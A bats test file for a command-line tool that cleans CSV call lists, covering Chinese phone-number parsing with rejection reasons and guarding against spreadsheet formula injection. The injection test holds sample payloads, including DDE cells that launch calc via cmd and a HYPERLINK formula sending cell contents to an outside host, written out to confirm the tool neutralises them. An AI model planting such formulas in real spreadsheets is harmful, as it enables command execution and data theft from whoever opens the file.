#!/usr/bin/env bats
# Cells as they come: phone numbers, of which none is guessed, and text that a spreadsheet would run as a formula.

load lib

# roll_of: a line for each on stdin, `CELL ~ ANYTHING`, as a roll of columns n and phone, bytes as printf %b
roll_of() {
	local cell rest n=0
	printf 'n,phone\n'
	while IFS='~' read -r cell rest; do
		n=$((n + 1))
		cell=${cell% }
		printf '%d,"%b"\n' "$n" "${cell//\"/\"\"}"
	done
}

@test "numbers that are understood" {
	cat >cells <<-'EOF'
	13800138000 ~ 13800138000
	13800138001.0 ~ 13800138001
	13800138002.00 ~ 13800138002
	1.3800138003E+10 ~ 13800138003
	="13800138004" ~ 13800138004
	'13800138005 ~ 13800138005
	１３８００１３８００６ ~ 13800138006
	＋８６１３８００１３８００７ ~ 13800138007
	+86 138-0013-8008 ~ 13800138008
	0086 13800138009 ~ 13800138009
	86-13800138010 ~ 13800138010
	8613800138011 ~ 13800138011
	138\xc2\xa00013\xc2\xa08012 ~ 13800138012
	 (138) 0013.8013\t ~ 13800138013
	138\xe2\x80\x8b0013\xe2\x80\x8d8014 ~ 13800138014
	\xe2\x80\xad13800138015\xe2\x80\xac ~ 13800138015
	138–0013—8016 ~
	13800138017,13800138018 ~ 13800138017 13800138018
	13800138019，13800138020 ~ 13800138019 13800138020
	13800138021;13800138022 ~ 13800138021 13800138022
	13800138023；13800138024 ~ 13800138023 13800138024
	13800138025、13800138026 ~ 13800138025 13800138026
	13800138027/13800138028 ~ 13800138027 13800138028
	13800138029\n13800138030 ~ 13800138029 13800138030
	13800138031\r\n13800138032,, ~ 13800138031 13800138032
	EOF
	# an em dash is none of the hyphens
	roll_of <cells >roll.csv
	fails 3 "$ROLLCALL" check roll.csv -r hi -o clean.csv
	says "1 rejected, 0 duplicate"
	says 'phone: "—" (U+2014) is not understood'
	column clean.csv n,phone >got
	awk -F'~' '{ n = split($2, numbers, " "); for (i = 1; i <= n; i++) printf "%d|%s\n", NR, numbers[i] }' cells |
		diff - got
}

@test "numbers that nobody may dial, each with its reason" {
	cat >cells <<-'EOF'
	1.38E+10 ~ digits are gone in E notation; format the column as text
	1,38E+10 ~ 1 digit, 11 wanted
	13800138000.5 ~ not a whole number
	1380013800 ~ 10 digits, 11 wanted
	138001380001 ~ 12 digits, 11 wanted
	١٣٨٠٠١٣٨٠٠٠ ~ "١" (U+0661) is not understood
	110 ~ 3 digits, 11 wanted
	120 ~ 3 digits, 11 wanted
	12345 ~ 5 digits, 11 wanted
	95588 ~ 5 digits, 11 wanted
	400-800-1234 ~ 10 digits, 11 wanted
	+86 400 800 1234 ~ 10 digits, 11 wanted
	010-62345678 ~ begins with 01, 13 to 19 wanted
	0755-26001234 ~ 12 digits, 11 wanted
	12012345678 ~ begins with 12, 13 to 19 wanted
	+1 415 555 0100 ~ country code other than 86
	00852 51234567 ~ country code other than 86
	13800138000"} ~ """ is not understood
	138001\\\\38000 ~ "\\" is not understood
	13800138000} ~ "}" is not understood
	📱13800138000 ~ "📱" (U+1F4F1) is not understood
	13800138000 (wife) ~ "w" is not understood
	=13800138000+1 ~ "=" is not understood
	= ~ "=" is not understood
	null ~ "n" is not understood
	  ~ empty
	EOF
	roll_of <cells >roll.csv
	fails 2 "$ROLLCALL" check roll.csv -r hi -v --rejects bad.csv
	says "0 ready"
	column bad.csv n,call_reason >got
	while IFS='~' read -r _ reason; do
		reason=${reason# }
		n=$((${n:-0} + 1))
		grep "^$n|" got | head -1 | grep -qF "phone: ${reason//\\\\/\\}" || {
			echo "row $n: $reason wanted: $(grep "^$n|" got)"
			return 1
		}
	done <cells
	[ "$n" -eq 26 ]
}

# cells_of FILE NAME: one column through python's csv, a cell for each line, as python writes it
cells_of() {
	python3 - "$@" <<'END'
import csv, sys
for row in csv.DictReader(open(sys.argv[1], encoding="utf-8-sig", newline="")):
    print(ascii(row[sys.argv[2]]))
END
}

@test "what a spreadsheet would run gets a quote in front, whoever wrote it; all else stays" {
	python3 - <<'END'
import csv
runs = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "\n=1", "＝1", "＋cmd", "－cmd", "＠x", " =1", "\u00a0=1",
    "\u3000=1", "\u200b=1", "\ufeff=1", "\u202e=1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://a.b/?"&A1,"here")',
    "=", "-", "+", "-x", '="a"&"b"', "+86 138 (0013) 8000+1", "-2+3+cmd|' /C calc'!A0"]
stays = ["x", "'x", "'=1", "a\n=1", '"=1', "|x", ";=1", "%=1", "-12.5", "+86 138-0013-8000", "-1.5E+3",
    '="13800138000"', "13800138000", " x ", "a,b;c\td", 'he said "hi"', "O'Neil", "\\", "{", "", "\u2028", "é 张 😀"]
w = csv.writer(open("roll.csv", "w", encoding="utf-8", newline=""))
w.writerow(["cell", "phone", "requirement"])
for i, c in enumerate(runs + stays):
    w.writerow([c, 13900000000 + i, "x" if c.strip() in ("", "{", "\u2028", "\u202e=1") else c])
    print(ascii(c), file=open("plain", "a"))
    print(ascii("'" + c if c in runs else c), file=open("guarded", "a"))
END
	"$ROLLCALL" check roll.csv -o clean.csv
	cells_of clean.csv cell | diff guarded -
	"$ROLLCALL" run roll.csv "${FAST[@]}" -q --simulate="$QUICK" -o r.csv
	cells_of r.csv cell | diff guarded -
	cells_of r.csv requirement | grep -qxF "\"'=1+1\""
	# read back, the quote is no part of the cell: it is not doubled, and the texts to be said are the same
	"$ROLLCALL" check clean.csv -o again.csv
	cmp clean.csv again.csv
	"$ROLLCALL" run r.csv --only ended --dry-run 2>said
	grep -qxF '    =1+1' said
	# as they stood, when that is wanted
	"$ROLLCALL" check roll.csv --formulas keep -o kept.csv
	cells_of kept.csv cell | diff plain -
}

@test "a workbook holds it all as text, as it stood" {
	printf 'phone,requirement\n13900000000,=1+1\n13900000001,\\n@x\n' >roll.csv
	"$ROLLCALL" run roll.csv "${FAST[@]}" -q --simulate="$QUICK" -o r.xlsx
	/usr/bin/python3 - <<'END'
import openpyxl
cells = [c for s in openpyxl.load_workbook("r.xlsx") for line in s.iter_rows() for c in line]
assert "=1+1" in [c.value for c in cells]
assert {c.data_type for c in cells} <= {"s", "n"}, {c.data_type for c in cells}
END
}
